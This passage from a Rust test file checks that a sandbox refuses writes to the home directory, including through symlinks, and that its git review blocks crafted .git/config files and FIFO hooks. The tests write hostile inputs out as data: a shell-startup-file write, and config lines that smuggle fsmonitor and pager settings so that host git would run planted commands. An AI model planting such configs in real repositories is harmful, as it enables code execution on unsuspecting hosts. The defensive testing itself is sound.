        let out = env.run_sh(&["--write", p(&env.home)], "echo evil > ~/.bash_aliases");
        assert_code(&out, 121);
        assert!(stderr(&out).contains("--allow-writable-home"), "{who:?}: {}", stderr(&out));
        assert_eq!(state(&env.home.join(".bash_aliases")), State::Absent);
    }
}

/// The same check holds once links are resolved: a `--write` of a link to $HOME, or a $HOME
/// reached through a link, does not make home writable behind the policy's back.
#[test]
fn a_link_to_home_does_not_make_it_writable() {
    for who in identities() {
        let env = Env::new(who);
        let alias = env.root.join("home-alias");
        std::os::unix::fs::symlink(&env.home, &alias).unwrap();
        let out = env.run_sh(&["--write", p(&alias)], "echo evil > ~/.bash_aliases");
        assert_code(&out, 121);
        assert!(stderr(&out).contains("--allow-writable-home"), "{who:?}: {}", stderr(&out));
        assert_eq!(state(&env.home.join(".bash_aliases")), State::Absent);
        // $HOME given as the link, with the workspace its real path: still refused.
        let mut cmd = env.run_command(&[], &["sh", "-c", "echo evil > ~/.bash_aliases"]);
        cmd.env("HOME", &alias).current_dir(&env.home);
        let out = bounded_output(cmd, std::time::Duration::from_secs(30));
        assert_code(&out, 121);
        assert_eq!(state(&env.home.join(".bash_aliases")), State::Absent);
    }
}

/// The git review holds against configs written to confuse it and against a FIFO left where it
/// looks: a kept key on a header line whose value contains `]` can't smuggle a setting into the
/// rebuilt copy; a config padded past 1 MiB isn't judged by its start; a named pipe can't be
/// made as a new hook at all (Landlock; the review's handling of FIFOs is in security_git.rs).
/// The host's own `git status` afterwards runs nothing. Control: the repository is created.
#[test]
fn git_review_resists_tricky_configs_and_fifos() {
    let cases = [
        "printf '[core] eol = x] fsmonitor = touch pwned\\n' >> .git/config && git config core.pager 'touch pwned'",
        "{ printf '[core]\\n\\tbare = false\\n'; head -c 1300000 /dev/zero | tr '\\0' '#'; \
          printf '\\n[core]\\n\\tfsmonitor = touch pwned\\n'; } > .git/config",
        "! mkfifo .git/hooks/pre-commit",
    ];
    for who in identities() {
        for case in cases {
            let env = Env::new(who);
            let script = format!("git init -q . && mkdir -p .git/hooks && {case} && echo CONTROL-OK");
            let out = env.run_sh(&[], &script);
            let text = both(&out);
            assert!(text.contains("CONTROL-OK"), "{who:?} {case}: setup failed (control):\n{text}");
            let config = host_git_config(&env);
            assert!(
                !config.contains("\tcore.fsmonitor=") && !config.contains("\tcore.pager="),
                "{who:?} {case}: a risky setting is in effect on the host:\n{config}"
            );
            assert_eq!(state(&env.ws.join(".git/hooks/pre-commit")), State::Absent, "{who:?} {case}:\n{text}");
            let _ = std::process::Command::new("git")
                .args(["-c", "safe.directory=*", "-C", p(&env.ws), "status", "--short"])
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("GIT_CONFIG_SYSTEM", "/dev/null")
                .output()
                .unwrap();
            assert_eq!(state(&env.ws.join("pwned")), State::Absent, "{who:?} {case}: host git ran planted code");
        }
    }
}
